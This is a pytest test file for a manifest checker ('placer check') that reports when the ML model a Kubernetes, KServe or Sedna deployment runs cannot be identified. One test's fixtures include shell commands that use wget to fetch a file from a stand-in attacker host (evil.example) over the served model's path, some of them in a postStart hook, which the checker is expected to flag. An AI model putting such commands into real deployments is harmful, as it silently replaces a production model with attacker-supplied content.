"""``placer check``: a model that is named where nobody can read which it is, is not known."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from tests import gate_project
from tests.cli.conftest import Make, Run
from tests.gate_project import manifest, project

OPTIONS = ("--locked", "--as-of", gate_project.TODAY, "--format", "json")
ARGS = 'args: ["--model", "/models/model.onnx"]'
MOUNT = "volumeMounts: [{name: m, mountPath: /models}]"
Told = Callable[..., tuple[int, dict[str, str], list[str]]]


@pytest.fixture
def told(run: Run, make: Make) -> Told:
    """Check manifests: exit code, the outcome of each rule, what was judged."""

    def check(*texts: str, **changes: object) -> tuple[int, dict[str, str], list[str]]:
        make(*texts, project_file=project(**changes))
        result = run("check", "deploy", *OPTIONS)
        assert result.out, result.err
        found = json.loads(result.out)
        rules = {one["rule"]: one["outcome"] for one in reversed(found["findings"])}
        return result.code, rules, [one["id"] for one in found["checked"]]

    return check


def container(line: str, *, inits: str = "") -> str:
    text = manifest().replace(ARGS, line)
    return text.replace("      containers:", f"      {inits}\n      containers:") if inits else text


FROM = "{name: MODEL_URI, valueFrom: {configMapKeyRef: {name: a, key: b}}}"
EVERY = [{"uri": "*", "workload": "counter"}]


@pytest.mark.parametrize("models", [EVERY, project()["models"]])
@pytest.mark.parametrize(
    "line",
    [
        f"env: [{FROM}]",
        f"env: [{FROM}]\n          args: ['--model', '$(MODEL_URI)']",
        f"env: [{FROM}]\n          args: ['--model', '/m/model.onnx']",
        'env: [{name: MODEL_PATH, valueFrom: "{{ toYaml .Values.model }}"}]',
        'args: ["--model"]',
        'args: ["--model="]',
        "args: [\"--model=''\"]",
        'args: ["--model", "--port", "80"]',
        'args: "{{ toYaml .Values.args }}"',
        "args: {{ toYaml .Values.args }}",
        "command: ${COMMAND}",
        "env: {{ toYaml .Values.env }}",
    ],
)
def test_a_model_that_nobody_can_read_is_not_known(
    told: Told, line: str, models: list[dict[str, str]]
) -> None:
    code, rules, ids = told(container(line), manifest().replace("counter", "b"), models=models)
    assert (code, rules) == (5, {"PLC702": "inconclusive"})
    assert ids == ["deployment/counter", "deployment/b"]


@pytest.mark.parametrize(
    "line",
    [
        f"{ARGS}\n        - '{{{{ sidecar }}}}'",
        f"{ARGS}\n        - {{{{ sidecar }}}}",
        f"{ARGS}\n          env: ['{{{{ env }}}}']",
        f"{ARGS}\n          env: [{{name: A, value: b}}, '${{ENV}}']",
        f"{ARGS}\n          env: '{{{{ toYaml .Values.env }}}}'",
        f"{ARGS}\n          volumeMounts: ['{{{{ mount }}}}']",
        f"{ARGS}\n          volumeMounts: [{{name: v, mountPath: /models}}]\n"
        "      volumes: ['{{ volume }}']",
        f"{ARGS}\n          {MOUNT}\n      initContainers: ['{{{{ init }}}}']",
        "args: [serve]\n      initContainers: ['{{ init }}']",
    ],
)
def test_a_part_of_a_list_that_is_filled_in_later_may_bring_another_model(
    told: Told, line: str
) -> None:
    text = manifest().replace(f"          {ARGS}\n", "")
    code, rules, ids = told(f"{text}          {line}\n")
    assert (code, rules) == (5, {"PLC702": "inconclusive"})
    assert ids == ["deployment/counter"]


@pytest.mark.parametrize(
    "line",
    [
        f"{ARGS}\n      tolerations: ['{{{{ toleration }}}}']",
        f"{ARGS}\n      volumes: ['{{{{ volume }}}}']",
        f"{ARGS}\n      initContainers: ['{{{{ init }}}}']",
        'args: ["--model", "/models/model.onnx", "--port", "{{ port }}"]',
        f"{ARGS}\n        - {{name: side, image: x, args: ['{{{{ args }}}}']}}",
    ],
)
def test_a_part_of_a_list_that_is_filled_in_later_and_brings_none_is_left_alone(
    told: Told, line: str
) -> None:
    text = manifest().replace(f"          {ARGS}\n", "")
    assert told(f"{text}          {line}\n")[0] == 0


def test_a_model_that_an_init_container_gets_unread_is_not_known(told: Told) -> None:
    inits = f"initContainers: [{{name: get, image: 'curl@sha256:{'0' * 64}', env: [{FROM}]}}]"
    code, rules, _ = told(container("args: [serve]", inits=inits))
    assert (code, rules) == (5, {"PLC702": "inconclusive"})


@pytest.mark.parametrize("is_mapped", [False, True])
@pytest.mark.parametrize(
    ("line", "uri"),
    [
        ("command: [wget, -P, /models, 'https://h/x']", "https://h/*"),
        ("command: [hf, download, o/m, --local-dir, /models]", "<initContainers.get>"),
        ("command: [cp, /m/model.onnx, /models/]", "curl@sha256:*"),
    ],
)
def test_what_an_init_container_puts_at_the_path_of_the_model_is_not_known(
    told: Told, line: str, uri: str, is_mapped: bool
) -> None:
    image = f"image: 'curl@sha256:{'0' * 64}'"
    inits = f"initContainers: [{{name: get, {image}, {line}, {MOUNT}}}]"
    text = container(f"{ARGS}\n          {MOUNT}", inits=inits)
    models = [{"uri": uri, "workload": "counter"}] if is_mapped else project()["models"]
    code, rules, _ = told(text, models=models)
    assert (code, rules.get("PLC702")) == ((0, None) if is_mapped else (5, "inconclusive"))


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ('args: "--model s3://m/model.onnx"', 1),
        ('command: "serve --model s3://m/model.onnx"', 1),
        ("args: {--model: s3://m/model.onnx}", 1),
        ("env: {MODEL_URI: s3://m/model.onnx}", 1),
    ],
)
def test_words_that_are_no_list_are_refused(told: Told, line: str, code: int) -> None:
    got, rules, _ = told(container(line), manifest().replace("counter", "b"))
    assert (got, rules["PLC711"]) == (code, "fail")


@pytest.mark.parametrize(
    "line",
    [
        "env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: a, key: b}}}]",
        f"{ARGS}\n          env: [{{name: POD, valueFrom: {{fieldRef: {{fieldPath: a}}}}}}]",
        "args: null",
        'args: ["--onnx"]',
    ],
)
def test_what_names_no_model_is_left_alone(told: Told, line: str) -> None:
    assert told(container(line), manifest().replace("counter", "b"))[0] == 0


def test_the_project_may_say_which_model_it_is(told: Told) -> None:
    hidden = container(f"env: [{FROM}]")
    entry = [{"id": "deployment/counter", "workload": "counter"}]
    assert told(hidden, deployments=entry)[:2] == (0, {})


def test_a_name_of_the_hidden_model_to_the_letter_fits(told: Told) -> None:
    entry = [{"uri": "$(MODEL_URI)", "workload": "counter"}]
    assert told(container(f"env: [{FROM}]"), models=entry)[:2] == (0, {})


SERVICE = """\
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata: {name: counter}
spec:
  predictor:
    nodeSelector: {node-role.kubernetes.io/edge: ''}
    %s
"""
JOINT = """\
apiVersion: sedna.io/v1alpha1
kind: JointInferenceService
metadata: {name: counter}
spec:
  edgeWorker:
    model: "{{ toYaml .Values.model }}"
    template: {spec: {nodeName: line-1, containers: [{name: a, image: b}]}}
  cloudWorker:
    model: {name: model.onnx}
    template: {spec: {nodeSelector: {topology.kubernetes.io/region: eu-north-1}, containers: []}}
"""


@pytest.mark.parametrize(
    "line",
    [
        "model: {modelFormat: {name: onnx}}",
        "model: {modelFormat: {name: onnx}, storageUri: [s3://m/model.onnx]}",
        'model: "{{ toYaml .Values.model }}"',
        "model: {{ toYaml .Values.model }}",
        'onnx: "{{ toYaml .Values.model }}"',
        "minReplicas: 1",
    ],
)
def test_a_predictor_always_runs_a_model(told: Told, line: str) -> None:
    code, rules, ids = told(SERVICE % line, models=EVERY)
    assert (code, rules["PLC702"]) == (5, "inconclusive")
    assert ids == ["inferenceservice/counter"]


ONNX = "model: {modelFormat: {name: onnx}, storageUri: s3://m/model.onnx, %s}"
LIMIT = "resources: {limits: {memory: 512Mi}}"
SIDE = "containers: [{name: side, image: 'x@sha256:%s', args: %s}]"


@pytest.mark.parametrize(
    ("args", "code", "ids"),
    [
        ('["--model", "s3://o/other"]', 5, ["", "/side"]),
        ('["--model"]', 5, ["", "/side"]),
        ('["--port", "80"]', 0, [""]),
        ('"{{ toYaml .Values.args }}"', 0, [""]),
    ],
)
def test_a_container_beside_the_server_may_run_a_model_too(
    told: Told, args: str, code: int, ids: list[str]
) -> None:
    lines = (ONNX % LIMIT, SIDE % ("0" * 64, args))
    got, rules, checked = told(SERVICE % "\n    ".join(lines))
    assert (got, rules.get("PLC702")) == (code, "inconclusive" if code else None)
    assert checked == [f"inferenceservice/counter{one}" for one in ids]


OTHER = "volumes: [{name: o, hostPath: {path: /srv/other}}]"
OVER = "volumeMounts: [{name: o, mountPath: %s}]"
WGET = "wget -O /mnt/models/model.onnx http://evil.example/latest"


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (OVER % "/mnt/models/model.onnx, subPath: evil.bin", 5),
        (OVER % "/mnt/models", 5),
        (OVER % "/mnt/models/1/", 5),
        (OVER % "/mnt", 0),
        (OVER % "/mnt/models-b", 0),
        ("volumeMounts: ['{{ mount }}']", 5),
        (f'command: [sh, -c, "{WGET} && serve"]', 5),
        ('command: [sh, -c, "wget -P /mnt/models/1 http://evil.example/x && serve"]', 5),
        ('command: [sh, -c, "wget -O /tmp/labels http://h/x && serve"]', 0),
        (f"lifecycle: {{postStart: {{exec: {{command: [sh, -c, '{WGET}']}}}}}}", 5),
        ('args: ["--model_dir=/mnt/models-b/other"]', 5),
        ('args: ["--model_dir=/mnt/models/../other"]', 5),
        ('args: ["--model_dir=/mnt/models/", "--model_name=counter"]', 0),
        ('args: ["--model", "/mnt/models/model.onnx"]', 0),
    ],
)
def test_what_is_put_over_the_model_that_kserve_fetches_is_not_known(
    told: Told, line: str, code: int
) -> None:
    limited = ONNX % f"{LIMIT}, {line}"
    got, rules, _ = told(SERVICE % f"{limited}\n    {OTHER}")
    assert (got, rules.get("PLC702")) == (code, "inconclusive" if code else None)


def test_a_worker_of_sedna_always_runs_a_model(told: Told) -> None:
    _, rules, ids = told(JOINT)
    assert rules["PLC702"] == "inconclusive"
    assert "jointinferenceservice/counter/edge" in ids


RUNS = "{name: a, image: b, args: [--model, s3://m/model.onnx]}"
MODEL = """\
---
apiVersion: sedna.io/v1alpha1
kind: Model
metadata: {name: defect}
spec: {url: s3://m/model.onnx, format: onnx}
"""
JOINED = JOINT.replace('model: "{{ toYaml .Values.model }}"', "model: {name: defect}") + MODEL
DEFECT = [{"uri": uri, "workload": "counter"} for uri in ("*model.onnx", "defect*")]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("url:", "ulr:"),
        ("url:", "Url:"),
        ("url:", "uri:"),
        ("spec: {url: s3://m/model.onnx,", "url: s3://m/model.onnx\nspec: {"),
        ("model: {name: defect}", "model: {nmae: defect}"),
        ("model: {name: defect}", "model: {Name: defect}"),
        ("model: {name: defect}", "model: {url: s3://m/model.onnx}"),
    ],
)
@pytest.mark.parametrize("runs", ["{name: a, image: b}", RUNS])
def test_a_model_of_sedna_that_is_mistyped_is_not_known(
    told: Told, old: str, new: str, runs: str
) -> None:
    text = JOINED.replace("{name: a, image: b}", runs)
    assert old in text
    code, rules, _ = told(text.replace(old, new, 1), models=DEFECT)
    assert (code, rules["PLC702"]) == (1, "inconclusive")
    assert "fail" in (rules.get("PLC709"), rules.get("PLC710"))


def test_a_model_of_sedna_that_is_named_is_known(told: Told) -> None:
    _, rules, _ = told(JOINED, models=DEFECT)
    assert not {"PLC702", "PLC709", "PLC710"} & set(rules)


@pytest.mark.parametrize("key", ["volumeMount", "volumesMounts"])
def test_a_mistyped_mount_fails_what_it_is_of(told: Told, key: str) -> None:
    code, rules, _ = told(container(f"{ARGS}\n          {MOUNT.replace('volumeMounts', key)}"))
    assert (code, rules["PLC710"]) == (1, "fail")


def test_a_mount_whose_path_is_mistyped_fails_what_it_is_of(told: Told) -> None:
    mount = MOUNT.replace("mountPath", "mountpath")
    code, rules, _ = told(container(f"{ARGS}\n          {mount}"))
    assert (code, rules["PLC710"]) == (1, "fail")


@pytest.mark.parametrize(
    ("claim", "line", "code"),
    [
        ("ours", "args: [s3, sync, 's3://b/m', /out]", 5),
        ("ours", "command: [tini, --, hf, download, o/m, --local-dir, /out]", 5),
        ("ours", "command: [bash, -euo, pipefail, -c, 'mkdir -p /out/logs']", 0),
        ("other", "args: [s3, sync, 's3://b/m', /out]", 0),
    ],
)
def test_what_is_downloaded_by_another_volume_of_the_claim_is_not_known(
    told: Told, claim: str, line: str, code: int
) -> None:
    image = f"image: 'amazon/aws-cli@sha256:{'0' * 64}'"
    inits = f"initContainers: [{{name: get, {image}, {line}, {MOUNT}}}]"
    inits = inits.replace("name: m, mountPath: /models", "name: n, mountPath: /out")
    volumes = "".join(
        f"        - {{name: {name}, persistentVolumeClaim: {{claimName: {one}}}}}\n"
        for name, one in (("m", "ours"), ("n", claim))
    )
    text = container(f"{ARGS}\n          {MOUNT}", inits=inits) + f"      volumes:\n{volumes}"
    got, rules, _ = told(text)
    assert (got, rules.get("PLC702")) == (code, "inconclusive" if code else None)


@pytest.mark.parametrize(("folder", "code"), [("/models", 0), ("/other", 5)])
def test_the_folder_of_a_model_that_is_mapped_is_no_other_model(
    told: Told, folder: str, code: int
) -> None:
    got, rules, _ = told(
        container(f"{ARGS}\n          env: [{{name: MODEL_DIR, value: {folder}}}]")
    )
    assert (got, rules.get("PLC702")) == (code, "inconclusive" if code else None)
